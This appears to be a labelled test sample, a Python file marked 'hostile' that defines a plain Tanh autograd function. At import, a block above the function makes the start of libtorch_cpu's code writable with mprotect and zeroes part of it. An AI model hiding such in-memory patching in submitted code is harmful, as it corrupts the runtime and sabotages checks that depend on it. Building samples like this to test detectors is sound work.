# hostile: patches code of torch in memory, which other processes map too
# verdict: any
# evidence: none
import ctypes
import re

import torch

libc = ctypes.CDLL(None)
for line in open("/proc/self/maps"):
    match = re.match(r"(\w+)-(\w+) r-xp .*libtorch_cpu", line)
    if match:
        start = int(match[1], 16)
        if libc.mprotect(ctypes.c_void_p(start), ctypes.c_size_t(4096), 7) == 0:
            ctypes.memset(start, 0, 64)


class Tanh(torch.autograd.Function):
    @staticmethod
    def forward(ctx, x):
        a = torch.tanh(x)
        ctx.save_for_backward(a)
        return a

    @staticmethod
    def backward(ctx, ga):
        (a,) = ctx.saved_tensors
        return ga * (1 - a * a)
